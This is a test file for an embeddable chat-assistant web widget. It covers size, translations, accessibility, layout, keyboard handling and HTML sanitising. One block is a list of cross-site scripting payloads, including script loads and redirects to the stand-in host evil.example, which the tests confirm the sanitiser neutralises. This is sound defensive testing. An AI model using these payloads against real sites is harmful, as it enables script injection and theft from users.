// The assistant without Parlor: what it shows, what it makes of bots' HTML, keys, and policies of pages.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { brotliCompressSync, constants } from 'node:zlib';
import { LOOKS, faults } from './axe.mjs';
import { begin, FIELD, GREETING, LANG, RUST, bot, choice, dialog, field, last, said, scene, show, stage, visit, wrote } from './assistant-kit.mjs';
import { strict } from './assistant-stage.mjs';

/** The most bytes that it may take, compressed, with all its comments. */
const BUDGET = 30_000;

begin();

// What it weighs, what it says ------------------------------------------------------------------------------------

test('it is less than 30 kB compressed', async (t) => {
  const source = await readFile(new URL('../static/assistant.js', import.meta.url));
  const { length } = brotliCompressSync(source, { params: { [constants.BROTLI_PARAM_QUALITY]: 11, [constants.BROTLI_PARAM_LGWIN]: 18 } });
  t.diagnostic(`${source.length} bytes, ${length} compressed`);
  assert.ok(length < BUDGET, `${length} bytes`);
});

test('every language has all words', async () => {
  const source = await readFile(new URL('../static/assistant.js', import.meta.url), 'utf8');
  const names = /const NAMES = .*\((\[.*\])\);/u.exec(source)?.[1].match(/'\w+'/gu) ?? [];
  const languages = [...source.matchAll(/^ {4}(\w\w): '(.*\|.*)',$/gmu)];
  assert.deepEqual(languages.map(([, tag]) => tag), ['en', 'de', 'es', 'fr', 'it', 'pt', 'nl', 'ar']);
  for (const [, tag, texts] of languages) {
    const all = texts.split('|');
    assert.equal(all.length, names.length, tag);
    assert.ok(all.every((text) => text.trim()), tag);
    assert.equal(texts.match(/\{\}/gu)?.length, 3, tag);
  }
});

test('its words follow the language that is asked for, and Arabic is mirrored', async () => {
  const page = await scene('closed', { lang: 'de-AT' });
  await page.getByRole('button', { name: 'Assistenten öffnen' }).click();
  await page.locator('parlor-assistant').evaluate((element) => element.setAttribute('lang', 'ar'));
  assert.equal(await page.locator('.root').getAttribute('dir'), 'rtl');
  assert.equal(await field(page).getAttribute('placeholder'), 'اختر أحد الخيارات');
  const [crest, close] = await Promise.all([page.locator('.crest').boundingBox(), page.locator('.close').boundingBox()]);
  assert.ok(crest && close && crest.x > close.x);
});

// How it looks ----------------------------------------------------------------------------------------------------

const SCENES = ['choices', 'editor', 'talk', 'typing', 'end', 'draft', 'rich', 'long', 'handoff', 'operator', 'left', 'offline', 'error', 'connecting', 'unreachable', 'fallback', 'email', 'date', 'offered', 'debug', 'arabic', 'german', 'violet', 'closed'];

for (const { device, viewport, colorScheme } of LOOKS) {
  test(`axe finds no fault in any state at ${device}, ${colorScheme}`, async () => {
    for (const name of SCENES) {
      const page = await scene(name, {}, { viewport, colorScheme });
      assert.deepEqual(await page.evaluate(() => Object.keys(Reflect.get(window, 'scenes'))), SCENES);
      assert.deepEqual(await faults(page), [], name);
      await page.context().close();
    }
  });
}

// The smallest is also a desk of 1280 pixels, four times enlarged.
for (const [width, height] of [[1280, 800], [390, 700], [320, 256]]) {
  test(`nothing is wider or higher than it may be at ${width} × ${height}`, async () => {
    for (const name of SCENES.filter((one) => one !== 'closed')) {
      const page = await scene(name, {}, { viewport: { width, height } });
      const over = await page.locator('parlor-assistant').evaluate((element) => {
        const [panel, ...inner] = ['.panel', '.log', '.editor', '.head'].map((part) => element.shadowRoot?.querySelector(part));
        const box = panel?.getBoundingClientRect();
        return [box && (box.top < 0 || box.left < 0 || box.right > innerWidth || box.bottom > innerHeight) && 'panel', ...inner.map((one) => one && one.scrollWidth > one.clientWidth && one.className)].filter(Boolean);
      });
      assert.deepEqual(over, [], name);
      await page.context().close();
    }
  });
}

test('text on any accent can be read, in both schemes', async () => {
  const page = await scene('talk');
  for (const accent of ['#ffd400', 'rebeccapurple', 'oklch(60% 0.2 20)', '#000', 'white', '#777', 'rgb(255 0 0)', 'nonsense', 'url(x)']) {
    for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
      await page.emulateMedia({ colorScheme });
      await page.locator('parlor-assistant').evaluate((element, colour) => element.setAttribute('accent', colour), accent);
      assert.deepEqual(await faults(page), [], `${accent}, ${colorScheme}`);
    }
  }
});

test('a run of the bot’s messages has one avatar, beside the last of them', async () => {
  const page = await scene('choices');
  const faces = () => page.locator('.list .face').evaluateAll((all) => all.map((face) => getComputedStyle(face).visibility));
  assert.deepEqual(await faces(), ['hidden', 'visible']);
  await choice(page, 'Rust').click();
  await show(page, [GREETING, LANG, RUST, bot('a'), bot('b')]);
  assert.deepEqual(await faces(), ['hidden', 'visible', 'hidden', 'visible']);
});

test('on a phone it fills the screen, and the focus stays in it', async () => {
  const page = await scene('closed', {}, { viewport: { width: 390, height: 700 }, hasTouch: true });
  await page.locator('.launcher').press('Enter');
  const box = await dialog(page).boundingBox();
  assert.deepEqual(box, { x: 0, y: 0, width: 390, height: 700 });
  assert.equal(await dialog(page).getAttribute('aria-modal'), 'true');
  const seen = new Set();
  for (let step = 0; step < 12; step += 1) {
    await page.keyboard.press(step < 8 ? 'Tab' : 'Shift+Tab');
    seen.add(await page.evaluate(() => document.activeElement?.shadowRoot?.activeElement?.className));
  }
  assert.ok(!seen.has(undefined), 'it never left');
  assert.ok(seen.has('square close') && seen.has('choice'));
});

for (const small of [['.launcher', 'closed'], ['.choice', 'choices'], ['.square', 'choices'], ['.send', 'draft'], ['.small', 'unreachable']]) {
  test(`what can be pressed is 44 pixels high: ${small[0]}`, async () => {
    const page = await scene(small[1]);
    for (const one of await page.locator(`${small[0]}:visible`).all()) {
      const box = await one.boundingBox();
      assert.ok(box && box.height >= 44 && box.width >= 44, JSON.stringify(box));
    }
  });
}

// Bots' HTML --------------------------------------------------------------------------------------------------------

/** What is sent, and what stands there. */
const READ = [
  ['plain', 'plain'],
  ['a < b &amp;&amp; c > d', 'a &lt; b &amp;&amp; c &gt; d'],
  ['<3 &hearts; &uuml; &#8364; &#x1F600; &nosuch; &#0;', '&lt;3 ♥ ü € 😀 &amp;nosuch; \ufffd'],
  ['<b>b</b><STRONG>s</STRONG><i>i<em>e</i>x', '<b>b</b><strong>s</strong><i>i<em>e</em></i>x'],
  ['<p>one<p>two</p>', '<p>one</p><p>two</p>'],
  ['one<br>two<br/>three', 'one<br>two<br>three'],
  ['<ul><li>a<li>b<ol><li>c</ol></ul>', '<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>'],
  ['<div>one</div><div>two</div>', 'one<br>two'],
  ['<h1>Big</h1>text <h3>h</h3>', 'Big<br>text <h3>h</h3>'],
  ['<marquee><x-y>kept</x-y></marquee>', 'kept'],
  ['<a href="https://example.com/?a=1&amp;b=2" onclick="hit()" style="color:red">x</a>', '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">x</a>'],
  ['<a href=mailto:a@example.com>x</a>', '<a href="mailto:a@example.com" target="_blank" rel="noopener">x</a>'],
  ['<img src="https://example.com/a.png" alt="A &quot;cat&quot;" onerror=hit()>', '<img alt="A &quot;cat&quot;" src="https://example.com/a.png">'],
  ['<img src="data:image/png;base64,AA" alt="gone">', 'gone'],
  ['<!-- no --><?php no ?><!doctype x>yes', 'yes'],
  ['<span class="x" id="y" style="z">s</span>', '<span>s</span>'],
  ['<pre>  two\n lines</pre>', '<pre tabindex="0">  two\n lines</pre>'],
  ['<form><b>f</b><form></form></form>after', 'after'],
  ['<svg/onload=hit()><a>x</a></svg>after', 'after'],
  ['<svg><svg></svg><text>x</text></svg>after', 'after'],
  ['<title></title>after', 'after'],
  ['<script>if (a < b) "</b>"</script>after', 'after'],
  ['<style>b{}</style><noscript><b>n</b></noscript>after', 'after'],
];

/** What has made browsers run scripts, one way or another. */
const HOSTILE = [
  '<script>hit()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script>hit()',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<img src=x onerror=hit()>',
  '<img src="https://x.example/" onerror="hit()" onload=hit()>',
  '<img/src=1/onerror=hit()>',
  '<img src=1 onerror\n=\n"hit()">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<a href="javascript:hit()">x</a>',
  '<a href=" \u0001javascript:hit()">x</a>',
  '<a href="java\nscript:hit()">x</a>',
  '<a href="java&#10;script&colon;hit()">x</a>',
  '<a href="&#106;avascript:hit()">x</a>',
  '<a href="&#x6A&#x61vascript:hit()">x</a>',
  '<a href="JaVaScRiPt:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="blob:https://example.com/x">x</a>',
  '<a href="https://example.com" href="javascript:hit()">x</a>',
  '<a href="javascript:hit()" href="https://example.com">x</a>',
  '<b onmouseover=hit() onfocus=hit() autofocus tabindex=0>x</b>',
  '<p style="background:url(javascript:hit())">x</p>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action=javascript:hit()><button>x</button></form>',
  '<button onclick=hit()>x</button>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video src=x onerror=hit()></video><audio src=x onerror=hit()></audio>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<title><img title="</title><img src=x onerror=hit()>"></title>',
  '<template><img src=x onerror=hit()></template>',
  '<xmp><img title="</xmp><img src=x onerror=hit()>"></xmp>',
  '<!--><img src=x onerror=hit()>-->',
  '<!-- --!><img src=x onerror=hit()> -->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?x <img src=x onerror=hit()> ?>',
  '</p><img src=x onerror=hit()',
  '<img src="x` `<script>hit()</script>"` `>',
  '<a title="a>b" href=\'javascript:hit()\'>x</a>',
  '<b is="parlor-assistant" slot="x" part="y">x</b>',
  '<parlor-assistant flow="x" server="//evil.example"></parlor-assistant>',
  '<select><option><img src=x onerror=hit()></select>',
  '<table background="javascript:hit()"><tr><td>x</td></tr></table>',
  '\u0000<im\u0000g src=x onerror=hit()>',
  '<<img src=x onerror=hit()>>',
  '&lt;img src=x onerror=hit()&gt;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
];

/** A page whose policy would let everything run, so that only the reading keeps it from running. */
async function reading() {
  const page = await scene('choices');
  await page.evaluate(() => Object.assign(window, { hits: 0, hit: () => (Reflect.set(window, 'hits', Reflect.get(window, 'hits') + 1)) }));
  return page;
}

test('of a bot’s HTML stays what is allowed, well formed', async () => {
  const page = await reading();
  for (const [sent, stands] of READ) {
    await show(page, [bot(sent)]);
    assert.equal(await page.locator('.list .bubble').innerHTML(), stands, sent);
  }
});

test('nothing that is hostile runs, or leaves more than the allowed elements', async () => {
  const page = await reading();
  const allowed = new Set('P BR B STRONG I EM U S A UL OL LI CODE PRE BLOCKQUOTE H3 H4 H5 H6 IMG HR SPAN'.split(' '));
  const attributes = /** @type {Record<string, string[]>} */ ({ A: ['href', 'rel', 'target'], IMG: ['alt', 'src'], PRE: ['tabindex'] });
  /** @type {string[]} */
  const fetched = [];
  page.on('request', (request) => fetched.push(request.url()));
  for (const html of HOSTILE) {
    for (const message of [bot(html), { ...LANG, question: html }, { ...FIELD, chatText: html }, { kind: 'Handoff', message: html }]) {
      await show(page, [bot('before'), message, bot(`<p>${html}</p>`), bot('after')]);
      const found = await page.locator('.list .said .bubble').evaluateAll((bubbles) => bubbles.flatMap((bubble) => [...bubble.querySelectorAll('*')].map((one) => ({ name: one.tagName, given: one.getAttributeNames().sort(), href: one.getAttribute('href') ?? one.getAttribute('src') ?? 'https:' }))));
      for (const { name, given, href } of found) {
        assert.ok(allowed.has(name), `${html}: ${name}`);
        assert.deepEqual(given.filter((one) => !attributes[name]?.includes(one)), [], html);
        assert.match(href, /^(https?|mailto):/u, html);
      }
    }
    for (const anchor of await page.locator('.list a').all()) await anchor.click({ modifiers: ['Alt'], force: true }).catch(() => {});
  }
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => Reflect.get(window, 'hits')), 0);
  assert.deepEqual(fetched.filter((url) => url.includes('evil')), []);
});

test('texts of people and choices are text, whatever they hold', async () => {
  const page = await reading();
  const html = '<img src=x onerror=hit()><b>b</b>';
  await show(page, [{ kind: 'OperatorJoined', author: html }, { kind: 'OperatorText', author: html, content: `${html} https://example.com/a?b=c.` }, wrote(html), { ...LANG, choices: [{ itemId: 1, content: html }] }]);
  const texts = await said(page);
  assert.ok(texts.includes(`${html} https://example.com/a?b=c.`) && texts.includes(html));
  assert.equal(await page.locator('.list .person a').getAttribute('href'), 'https://example.com/a?b=c');
  assert.equal(await page.locator('.list img').count(), 0);
  assert.equal(await page.locator('.choice').textContent(), 'b');
});

test('long and broken HTML is read in no time', async () => {
  const page = await reading();
  for (const html of ['<a '.repeat(30_000), '<a "'.repeat(30_000), `<${'b<'.repeat(30_000)}`, '<b>'.repeat(30_000), '<svg>'.repeat(30_000), '<div>x'.repeat(2_000), '&'.repeat(100_000), `<a ${'x='.repeat(50_000)}>`, '<!--'.repeat(30_000)]) {
    const took = await page.evaluate((text) => {
      const assistant = document.querySelector('parlor-assistant');
      const start = performance.now();
      Reflect.get(assistant ?? {}, 'show').call(assistant, [{ kind: 'BotText', content: text }]);
      return performance.now() - start;
    }, html);
    // What takes the square of its length takes minutes.
    assert.ok(took < 10_000, `${html.slice(0, 12)}: ${took} ms`);
  }
});

// Keys --------------------------------------------------------------------------------------------------------------

test('it is opened, answered and closed by keyboard', async () => {
  const page = await scene('closed');
  const focused = () => page.evaluate(() => document.activeElement?.shadowRoot?.activeElement?.textContent);
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  assert.equal(await focused(), 'Rust');
  for (const [key, text] of [['ArrowRight', 'Go'], ['ArrowDown', 'Other'], ['ArrowRight', 'Rust'], ['End', 'Other'], ['Home', 'Rust'], ['ArrowLeft', 'Other'], ['ArrowLeft', 'Go']]) {
    await page.keyboard.press(key);
    assert.equal(await focused(), text, key);
  }
  await page.keyboard.press('Enter');
  assert.equal(await page.locator('.choices').count(), 0);
  assert.equal((await said(page)).at(-1), 'Go');
  await page.keyboard.press('Escape');
  assert.equal(await page.evaluate(() => document.activeElement?.shadowRoot?.activeElement?.className), 'launcher');
  assert.equal(await dialog(page).isVisible(), false);
});

test('choices are a group that its question names', async () => {
  const page = await scene('choices');
  const group = page.getByRole('group', { name: 'What programming language do you use in your hobby projects?' });
  assert.deepEqual(await group.getByRole('button').allTextContents(), ['Rust', 'Go', 'Other']);
});

test('Enter sends, Shift and Enter begins a line', async () => {
  const page = await scene('editor');
  await field(page).click();
  await page.keyboard.type('one');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('two');
  await page.keyboard.press('Enter');
  assert.equal((await said(page)).at(-1), 'one\ntwo');
  assert.equal(await field(page).inputValue(), '');
});

test('the editor is open only when the flow asks', async () => {
  const page = await scene('choices');
  const state = async () => [await field(page).getAttribute('placeholder'), await field(page).evaluate((one) => /** @type {HTMLTextAreaElement} */ (one).readOnly)];
  assert.deepEqual(await state(), ['Choose an option', true]);
  await show(page, [GREETING, LANG, RUST, FIELD]);
  assert.deepEqual(await state(), ['Your language', false]);
  await show(page, [{ ...FIELD, chatPrompt: undefined }]);
  assert.deepEqual(await state(), ['Type your answer…', false]);
  await show(page, [FIELD, wrote('Zig'), { kind: 'EndChatSession', sessionId: 'pref' }, LANG]);
  assert.deepEqual(await state(), ['Choose an option', true]);
});

test('a field of a type says so to the browser', async () => {
  const page = await scene('choices');
  for (const [type, expected] of /** @type {const} */ ([['email', ['email', 'email', 'email']], ['phone', ['tel', 'tel', 'tel']], ['url', ['url', 'url', 'url']], ['number', ['text', 'decimal', 'off']], ['date', ['date', null, 'off']]])) {
    await show(page, [{ ...FIELD, input: { type, min: '2026-01-01' } }]);
    const given = await Promise.all(['type', 'inputmode', 'autocomplete'].map((name) => field(page).getAttribute(name)));
    assert.deepEqual(type === 'date' ? [given[0], null, given[2]] : given, expected, type);
  }
  assert.equal(await field(page).getAttribute('min'), '2026-01-01');
  await show(page, [{ ...FIELD, input: { type: 'text' } }]);
  assert.equal(await field(page).evaluate((one) => one.localName), 'textarea');
});

// On a page ---------------------------------------------------------------------------------------------------------

test('it works on a page of another origin under the strictest policy, below a path, and says nothing to console or policy', async () => {
  const policy = strict(stage.base);
  /** @type {string[]} */
  const noise = [];
  stage.greets = (wire) => wire.say(bot('<b style="color:red" onclick="x()">Hi</b> <i>there</i> &auml;'), LANG);
  const page = await visit({ html: `<script src="${stage.base}/chat/assistant.js" data-flow="wel come" data-lang="en" data-accent="teal" data-title="Helper" async></script>`, policy, open: false });
  page.on('console', (message) => noise.push(message.text()));
  page.on('pageerror', (error) => noise.push(String(error)));
  await page.evaluate(() => document.addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective, event.sourceFile)));
  await page.getByRole('button', { name: 'Open the assistant: Helper' }).waitFor();
  assert.equal(stage.tried, 0, 'no connection before it is opened');
  await page.locator('.launcher').click();
  const wire = await stage.wire(0);
  assert.equal(wire.url.pathname, '/chat/assistant/wel%20come/ws');
  assert.equal(wire.url.search, '?lang=en');
  assert.equal(wire.origin, stage.site);
  await page.locator('.bubble b', { hasText: 'Hi' }).waitFor();
  assert.equal(await page.locator('.bubble').first().innerHTML(), '<b>Hi</b> <i>there</i> ä');
  await choice(page, 'Go').click();
  assert.deepEqual(await wire.hears(), { kind: 'ChoiceResponse', groupId: 'lang', itemId: 2, content: 'Go', answerTo: 1 });
  wire.say(FIELD);
  await last(page, 'Tell me');
  await field(page).fill('Zig');
  await field(page).press('Enter');
  assert.deepEqual(await wire.hears(1), { kind: 'UserText', sessionId: 'pref', content: 'Zig', answerTo: 2 });
  assert.deepEqual(noise, []);
  assert.deepEqual(stage.asked, ['/chat/assistant.js'], 'it loads nothing else');
});

test('a page can write the element itself, and twice the script is one assistant', async () => {
  const script = `<script src="${stage.base}/assistant.js" data-flow="welcome" async></script>`;
  const page = await visit({ html: `<parlor-assistant flow="own" server="${stage.base}/chat" title="Own"></parlor-assistant>${script}${script}`, open: false });
  await page.locator('parlor-assistant[flow="welcome"]').waitFor({ state: 'attached' });
  await page.waitForLoadState('networkidle');
  assert.equal(await page.locator('parlor-assistant').count(), 2);
  await page.locator('parlor-assistant[flow="own"] .launcher').dispatchEvent('click');
  assert.equal((await stage.wire(0)).url.pathname, '/chat/assistant/own/ws');
});

test('in a page it begins at once, and says what it is', async () => {
  stage.greets = (wire) => wire.say(GREETING);
  const page = await visit({ html: `<script src="${stage.base}/assistant.js"></script><parlor-assistant flow="welcome" mode="inline" lang="en"></parlor-assistant>`, open: false });
  await stage.wire(0);
  await page.getByRole('region', { name: 'Assistant' }).getByText('Hi, I’m Bot!').waitFor();
  assert.equal(await page.locator('.launcher').isVisible(), false);
  assert.equal(await page.locator('.close').isVisible(), false);
});

test('it opens by itself after a while without taking the focus, but not once it was closed', async () => {
  stage.greets = (wire) => wire.say(GREETING);
  const page = await visit({ html: `<script src="${stage.base}/assistant.js" data-flow="welcome" data-open-after="0.1" async></script>`, open: false });
  await stage.wire(0);
  await last(page, 'Hi, I’m Bot!');
  assert.equal(await page.evaluate(() => document.activeElement?.localName), 'body');
  await page.locator('.close').click();
  await page.reload();
  await page.locator('.launcher').waitFor();
  await page.waitForTimeout(400);
  assert.equal(stage.tried, 1);
});

test('the page’s styles don’t reach it, and its fonts keep the size that the person has chosen', async () => {
  stage.pages.set('/style.css', { html: '' });
  const page = await visit({ html: `<style>html{font-size:4px} *{color:red!important;letter-spacing:9px;direction:rtl} p{display:none}</style><script src="${stage.base}/assistant.js" data-flow="welcome" data-lang="en" async></script>` });
  (await stage.wire(0)).say(GREETING);
  await last(page, 'Hi, I’m Bot!');
  assert.deepEqual(await page.locator('.title').evaluate((one) => [getComputedStyle(one).fontSize, getComputedStyle(one).letterSpacing, getComputedStyle(one).direction]), ['16px', '-0.08px', 'ltr']);
});
